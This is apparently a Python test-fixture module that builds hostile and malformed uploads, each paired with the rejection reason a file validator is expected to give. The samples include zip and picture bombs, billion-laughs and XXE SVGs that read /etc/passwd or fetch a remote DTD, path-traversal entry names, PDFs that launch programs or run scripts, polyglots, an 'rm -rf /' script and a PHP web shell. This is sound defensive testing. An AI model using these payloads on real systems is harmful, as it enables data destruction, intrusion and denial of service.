"""Files that somebody made to mislead, to stop or to spy; each with its name and the reason for which it is refused."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from app.files.models import FileKind
from app.files.refusals import Reason
from tests.factories.files import SVG, VTT, box, docx_parts, element, package, pdf, picture, valid_file

Hostile = tuple[Callable[[], bytes], str, Reason]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _docx_with(**parts: str | bytes) -> bytes:
    return package(docx_parts() | parts)


def docx_with(name: str, content: str | bytes = b"x") -> Callable[[], bytes]:
    """A Word document with one more entry."""
    return lambda: package(docx_parts() | {name: content})


def _action(kind: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject(kind),
            NameObject("/F"): TextStringObject("calc.exe"),
        }
    )


def _starts(kind: str) -> Callable[[PdfWriter], None]:
    """When it is opened it does this."""

    def change(writer: PdfWriter) -> None:
        # The library shows no other way to add an object.
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(_action(kind))  # noqa: SLF001

    return change


def _links_to_a_script(writer: PdfWriter) -> None:
    note = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("https://fenbury.example/"),
                    NameObject("/Next"): _action("/JavaScript"),
                }
            ),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])  # noqa: SLF001


def _encrypted_pdf() -> bytes:
    return pdf(change=lambda writer: writer.encrypt("", owner_password="only the owner", algorithm="RC4-128"))


def _bomb() -> bytes:
    """Thirty megabytes of nothing in thirty kilobytes."""
    return _docx_with(**{"word/media/nothing.bin": bytes(30 * 1024 * 1024)})


def _lying_bomb() -> bytes:
    """The same, but the package says that it is small."""
    packed = bytearray(_bomb())
    real, said = struct.pack("<I", 30 * 1024 * 1024), struct.pack("<I", 100)
    return bytes(packed.replace(real, said))


def _many_entries() -> bytes:
    return package(docx_parts() | {f"word/media/{number}.bin": b"" for number in range(5001)})


def _nested(levels: int) -> bytes:
    inner = valid_file(FileKind.XLSX)
    for _ in range(levels):
        inner = package(docx_parts() | {"word/embeddings/table.xlsx": inner})
    return inner


def _overlapping() -> bytes:
    """Two entries of the list that lie in the same place: the trick of the bombs that need no nesting."""
    packed = _docx_with(**{"word/aaaa.xml": b"<x/>", "word/bbbb.xml": b"<x/>"})
    with zipfile.ZipFile(io.BytesIO(packed)) as made:
        first, second = (made.getinfo(name).header_offset for name in ("word/aaaa.xml", "word/bbbb.xml"))
    at = packed.rindex(struct.pack("<I", second) + b"word/bbbb.xml")
    return packed[:at] + struct.pack("<I", first) + packed[at + 4 :]


def _locked_entry() -> bytes:
    packed = bytearray(valid_file(FileKind.DOCX))
    with zipfile.ZipFile(io.BytesIO(bytes(packed))) as made:
        entries = len(made.infolist())
    at = 0
    for _ in range(entries):
        at = packed.index(b"PK\x01\x02", at + 1)
        packed[at + 8] |= 1
    return bytes(packed)


def _png_of(width: int, height: int) -> bytes:
    """A PNG that claims to be so large, with next to nothing inside."""

    def chunk(name: bytes, content: bytes) -> bytes:
        body = name + content
        return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(1000)))
        + chunk(b"IEND", b"")
    )


def _gif() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, "GIF")
    return out.getvalue()


def _svg(inside: str, attributes: str = "") -> Callable[[], bytes]:
    namespaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f"<svg {namespaces} {attributes}>{inside}</svg>".encode


def _laughs() -> bytes:
    lines = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))]
    return f"<?xml version='1.0'?><!DOCTYPE svg [{''.join(lines)}]>{SVG.replace('Shops', '&a11;')}".encode()


def _doubling() -> str:
    uses = (f'<g id="a{n}"><use href="#a{n + 1}"/><use xlink:href="#a{n + 1}"/></g>' for n in range(40))
    return f'<defs>{"".join(uses)}<g id="a40"><rect width="1" height="1"/></g></defs><use href="#a0"/>'


def _doubling_patterns() -> str:
    tiles = (
        f'<pattern id="p{n}" width="9" height="9"><rect fill="url(#p{n + 1})"/><rect style="fill:url(#p{n + 1})"/>'
        "</pattern>"
        for n in range(40)
    )
    return f'{"".join(tiles)}<rect fill="url(#p0)"/>'


def _changed(kind: FileKind, change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    return lambda: change(valid_file(kind))


def _half(content: bytes) -> bytes:
    return content[: len(content) // 2]


_TYPES = str(docx_parts()["[Content_Types].xml"])
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

HOSTILE: dict[str, Hostile] = {
    "nothing at all": (bytes, "slides.pdf", Reason.EMPTY),
    "noise": (lambda: bytes(range(256)) * 20, "slides.pdf", Reason.UNKNOWN),
    "noise as text": (lambda: bytes(range(256)) * 20, "notes.txt", Reason.NOT_TEXT),
    "a program": (lambda: b"MZ" + bytes(500), "slides.pdf", Reason.PROGRAM),
    "a program of another system": (lambda: b"\x7fELF" + bytes(500), "table.csv", Reason.PROGRAM),
    "a script as text": (lambda: b"#!/bin/sh\nrm -rf /\n", "notes.txt", Reason.PROGRAM),
    "PHP as text": (lambda: b"<?php system($_GET['x']); ?>", "notes.txt", Reason.PROGRAM),
    # Names that say something else.
    "Word as PDF": (_changed(FileKind.DOCX, bytes), "paper.pdf", Reason.MISNAMED),
    "PDF as Word": (_changed(FileKind.PDF, bytes), "paper.docx", Reason.MISNAMED),
    "Excel as Word": (_changed(FileKind.XLSX, bytes), "paper.docx", Reason.MISNAMED),
    "PNG as JPEG": (_changed(FileKind.PNG, bytes), "chart.jpg", Reason.MISNAMED),
    "PDF as a program": (_changed(FileKind.PDF, bytes), "paper.pdf.exe", Reason.MISNAMED),
    "text as PDF": (_changed(FileKind.TXT, bytes), "paper.pdf", Reason.MISNAMED),
    "a drawing as text": (_changed(FileKind.SVG, bytes), "notes.txt", Reason.MISNAMED),
    "a transcript as text": (_changed(FileKind.VTT, bytes), "notes.txt", Reason.MISNAMED),
    "a video as sound": (_changed(FileKind.MP4, bytes), "talk.mp3", Reason.MISNAMED),
    # What we know but do not take.
    "GIF": (_gif, "chart.gif", Reason.FOREIGN),
    "an old Word file": (lambda: OLE, "paper.doc", Reason.FOREIGN),
    "an old Word file with a new name": (lambda: OLE, "paper.docx", Reason.FOREIGN),
    "PowerPoint": (
        docx_with("[Content_Types].xml", _TYPES.replace("wordprocessingml.document", "presentationml.presentation")),
        "slides.pptx", Reason.FOREIGN,
    ),
    "a ZIP folder": (lambda: package({"a.txt": "a"}), "all.zip", Reason.FOREIGN),
    "an OpenDocument spreadsheet": (
        lambda: package({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "t.ods", Reason.FOREIGN,
    ),
    "QuickTime": (lambda: box(b"ftyp", b"qt  " + bytes(12)), "talk.mp4", Reason.FOREIGN),
    "HEIC": (lambda: box(b"ftyp", b"heic" + bytes(12)), "photo.jpg", Reason.FOREIGN),
    "Matroska": (lambda: element(0x1A45DFA3, element(0x4282, b"matroska")), "talk.webm", Reason.FOREIGN),
    "RTF": (lambda: b"{\\rtf1 hello}", "paper.docx", Reason.FOREIGN),
    "WAV": (lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(40), "talk.mp3", Reason.FOREIGN),
    # Cut short.
    "half a PDF": (lambda: _half(pdf(pages=20)), "paper.pdf", Reason.BROKEN),
    "a PDF without its pages": (lambda: b"%PDF-1.4\nnothing here\n%%EOF\n", "paper.pdf", Reason.BROKEN),
    "half a PNG": (lambda: _half(picture(FileKind.PNG, 400, 300)), "chart.png", Reason.BROKEN),
    "half a JPEG": (lambda: _half(picture(FileKind.JPEG, 400, 300)), "photo.jpg", Reason.BROKEN),
    "half a WebP": (lambda: _half(picture(FileKind.WEBP, 400, 300)), "photo.webp", Reason.BROKEN),
    "half a Word document": (_changed(FileKind.DOCX, _half), "paper.docx", Reason.BROKEN),
    "half an MP4": (_changed(FileKind.MP4, lambda c: c[:-20]), "talk.mp4", Reason.BROKEN),
    "an MP4 without its contents": (lambda: box(b"ftyp", b"isom" + bytes(8)), "talk.mp4", Reason.BROKEN),
    "half a WebM": (_changed(FileKind.WEBM, lambda c: c[:-4]), "talk.webm", Reason.BROKEN),
    "an MP3 that is only its label": (lambda: b"ID3\x03\x00\x00\x00\x00\x00\x0a" + bytes(600), "a.mp3", Reason.BROKEN),
    "half a drawing": (SVG[:-20].encode, "plan.svg", Reason.BROKEN),
    "a Word document with a damaged part": (
        lambda: package(docx_parts(), zipfile.ZIP_STORED).replace(b"What the lane", b"What the l4ne"),
        "paper.docx", Reason.BROKEN,
    ),
    "a Word document that is no XML": (docx_with("word/document.xml", "<w:document>"), "a.docx", Reason.BROKEN),
    "a Word document without its text": (
        lambda: package({"[Content_Types].xml": _TYPES}), "a.docx", Reason.BROKEN,
    ),
    # Locked.
    "an encrypted PDF": (_encrypted_pdf, "paper.pdf", Reason.LOCKED),
    "an encrypted Word document": (
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(512), "paper.docx", Reason.LOCKED,
    ),
    "an Excel workbook that only some may open": (
        lambda: OLE + "DRMEncryptedDataSpace".encode("utf-16-le") + bytes(512), "table.xlsx", Reason.LOCKED,
    ),
    "a package with a password": (_locked_entry, "paper.docx", Reason.LOCKED),
    "an encrypted OpenDocument": (
        lambda: package(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": b"\x13\x37",
                "META-INF/manifest.xml": "<manifest:encryption-data/>",
            }
        ),
        "paper.odt", Reason.LOCKED,
    ),
    # Bombs.
    "a zip bomb": (_bomb, "paper.docx", Reason.BOMB),
    "a zip bomb that lies about its size": (_lying_bomb, "paper.docx", Reason.BROKEN),
    "too many entries": (_many_entries, "paper.docx", Reason.BOMB),
    "packages in packages in packages": (lambda: _nested(3), "paper.docx", Reason.BOMB),
    "a package where none belongs": (docx_with("word/media/a.png", package({"a": "a"})), "a.docx", Reason.TRICKY),
    "entries that overlap": (_overlapping, "paper.docx", Reason.BROKEN),
    "a picture bomb": (lambda: _png_of(60_000, 60_000), "chart.png", Reason.TOO_MANY_PIXELS),
    "a picture that claims more than it holds": (lambda: _png_of(3000, 3000), "chart.png", Reason.BROKEN),
    "a billion laughs under another name": (
        lambda: _laughs().replace(b"<!DOCTYPE svg", b"<!DOCTYPE lolz"), "plan.svg", Reason.DEFINITIONS,
    ),
    "another kind of XML as a drawing": (lambda: b"<?xml version='1.0'?><feed/>", "plan.svg", Reason.NO_DRAWING),
    "captions without their head": (
        lambda: b"1\n00:01.000 --> 00:02.000\nOne\n", "talk.vtt", Reason.NO_CAPTIONS_HEAD,
    ),
    "nothing but spaces": (lambda: b"\xef\xbb\xbf \n\t \r\n", "notes.txt", Reason.EMPTY),
    "a table of nothing": (lambda: b" \n \n", "table.csv", Reason.EMPTY),
    "a billion laughs": (_laughs, "plan.svg", Reason.DEFINITIONS),
    "a Word document with definitions": (
        docx_with("word/document.xml", '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "a.docx", Reason.TRICKY,
    ),
    # Names that lead out of the folder.
    "the way up": (docx_with("../../etc/passwd"), "paper.docx", Reason.TRICKY),
    "the way up, backwards": (docx_with("word\\..\\..\\x"), "paper.docx", Reason.TRICKY),
    "a name from the root": (docx_with("/etc/passwd"), "paper.docx", Reason.TRICKY),
    "a name with a drive": (docx_with("C:/x"), "paper.docx", Reason.TRICKY),
    "two of one name": (docx_with("WORD/Document.xml"), "paper.docx", Reason.TRICKY),
    # What would run.
    "macros": (docx_with("word/vbaProject.bin"), "paper.docx", Reason.MACROS),
    "a document made for macros": (
        docx_with("[Content_Types].xml", _TYPES.replace(_WORD_TYPE, _MACRO_TYPE)),
        "paper.docx", Reason.MACROS,
    ),
    "macros in OpenDocument": (
        lambda: package(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": "<x/>",
                "Basic/Standard/Module1.xml": "<x/>",
            }
        ),
        "paper.odt", Reason.MACROS,
    ),
    "a PDF with a script": (lambda: pdf(change=_starts("/JavaScript")), "a.pdf", Reason.SCRIPTS),
    "a PDF that starts a program": (lambda: pdf(change=_starts("/Launch")), "a.pdf", Reason.SCRIPTS),
    "a PDF with a script behind a link": (lambda: pdf(change=_links_to_a_script), "a.pdf", Reason.SCRIPTS),
    "a PDF with a file inside": (
        lambda: pdf(change=lambda w: w.add_attachment("names.xlsx", b"secret")), "a.pdf", Reason.ATTACHMENTS,
    ),
    # Two files in one.
    "a PDF that is also a ZIP": (
        lambda: pdf() + package({"evil.html": "<script>"}), "paper.pdf", Reason.TWO_IN_ONE,
    ),
    "a PDF that is also a web page": (
        _changed(FileKind.PDF, lambda c: c.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1)),
        "paper.pdf", Reason.TWO_IN_ONE,
    ),
    "a PDF that begins later": (
        _changed(FileKind.PDF, lambda c: b"<html>" + c), "paper.pdf", Reason.WEB_PAGE,
    ),
    "a Word document with something behind it": (
        _changed(FileKind.DOCX, lambda c: c + b"<script>alert(1)</script>"), "a.docx", Reason.TWO_IN_ONE,
    ),
    "a video that is also a ZIP": (
        _changed(FileKind.MP4, lambda c: c + box(b"free", package({"a": "a"}))), "talk.mp4", Reason.TWO_IN_ONE,
    ),
    # Web pages in disguise.
    "a web page as text": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "notes.txt", Reason.WEB_PAGE),
    "a web page as a table": (lambda: b"\xef\xbb\xbf \n<HTML><body>", "table.csv", Reason.WEB_PAGE),
    "a web page as a drawing": (lambda: b"<html><svg/></html>", "plan.svg", Reason.WEB_PAGE),
    "a web page in UTF-16": (lambda: "<script>alert(1)</script>".encode("utf-16"), "notes.txt", Reason.WEB_PAGE),
    # Drawings that stop a browser, or are none. What only reaches out is taken out of them: see drawings.py.
    "a drawing that reads a file": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{SVG.replace("Shops", "&x;")}'.encode,
        "plan.svg", Reason.DEFINITIONS,
    ),
    "a drawing with definitions from elsewhere": (
        f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://spy.example/x.dtd"> %x;]>{SVG}'.encode,
        "plan.svg", Reason.DEFINITIONS,
    ),
    "a drawing with elements in its definitions": (
        f'<!DOCTYPE svg [<!ENTITY x "<script/>">]>{SVG.replace("Shops", "&x;")}'.encode,
        "plan.svg", Reason.DEFINITIONS,
    ),
    "one word a million times": (
        f'<!DOCTYPE svg [<!ENTITY x "{"ha" * 500}">]>{SVG.replace("Shops", "&x;" * 1_000_000)}'.encode,
        "plan.svg", Reason.DEFINITIONS,
    ),
    "parts within parts without end": (_svg("<g>" * 5000 + "</g>" * 5000), "p.svg", Reason.ENDLESS_DRAWING),
    "a drawing that draws itself twice, and twice": (_svg(_doubling()), "p.svg", Reason.ENDLESS_DRAWING),
    "the same by other spellings": (_svg(_doubling().replace('"#a', '"#%61')), "p.svg", Reason.ENDLESS_DRAWING),
    "patterns of patterns, spelt out": (
        _svg(_doubling_patterns().replace("url(#p", "url(#\\70 ")), "p.svg", Reason.ENDLESS_DRAWING,
    ),
    "patterns of patterns": (_svg(_doubling_patterns()), "p.svg", Reason.ENDLESS_DRAWING),
    "no drawing but called so": (
        lambda: b'<svg xmlns="http://www.w3.org/1999/xhtml"><p>x</p></svg>', "p.svg", Reason.NO_DRAWING,
    ),
    # Texts.
    "a text with a NUL": (lambda: b"a\x00b", "notes.txt", Reason.NOT_TEXT),
    "a table with bells": (lambda: b"a,b\n\x07,\x1b[2J\n", "table.csv", Reason.NOT_TEXT),
    "a transcript without cues": (lambda: b"WEBVTT\n\nNOTE nothing\n", "talk.vtt", Reason.NO_CUES),
    "captions with broken times": (
        lambda: VTT.replace("00:00:04.000", "soon").encode(), "talk.vtt", Reason.BAD_CAPTION,
    ),
    "captions with times of another format": (
        lambda: VTT.replace("04.000", "04,000").encode(), "talk.vtt", Reason.BAD_CAPTION,
    ),
    "captions that end before they begin": (
        lambda: VTT.replace("00:00:04", "00:00:00").encode(), "talk.vtt", Reason.BACKWARD_CAPTION,
    ),
    "captions without an arrow": (lambda: VTT.replace("-->", "to").encode(), "talk.vtt", Reason.BAD_CAPTION),
    "words that belong to no caption": (
        f"{VTT}\nThese are lost.\n".encode, "talk.vtt", Reason.BAD_CAPTION,
    ),
}  # fmt: skip
